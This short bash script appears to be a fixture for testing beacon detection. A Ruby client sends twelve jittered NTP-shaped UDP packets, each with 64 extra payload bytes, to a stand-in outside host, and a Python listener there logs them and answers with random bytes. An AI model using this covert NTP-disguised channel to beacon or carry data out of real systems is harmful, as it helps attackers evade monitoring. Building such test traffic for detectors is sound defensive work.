#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=beacon half=report tool=ruby far=out ready=out:123 seconds=75 parts=dns
# Ruby sends each six seconds, a tenth more or less, what looks like a question for the time, with 64 bytes of its own behind it, to a host outside, and gets an answer of 64 more.
if [ "$1" = out ]; then exec timeout 100 python3 -c 'import os, socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(("203.0.113.66", 123))
while True: d, who = s.recvfrom(2000); open(sys.argv[1], "ab").write(d); s.sendto(b"\x24" + d[1:48] + os.urandom(64), who)' "$LAB/got"; fi
sleep 1; timeout 74 ruby -rsocket -rsecurerandom -e 's = UDPSocket.new; s.connect("203.0.113.66", 123); 12.times { s.send("\x23".b + "\0" * 47 + SecureRandom.bytes(64), 0); s.recv(500); sleep 5.4 + rand * 1.2 }'
[ "$(stat -c %s "$LAB/got")" -ge 1200 ]
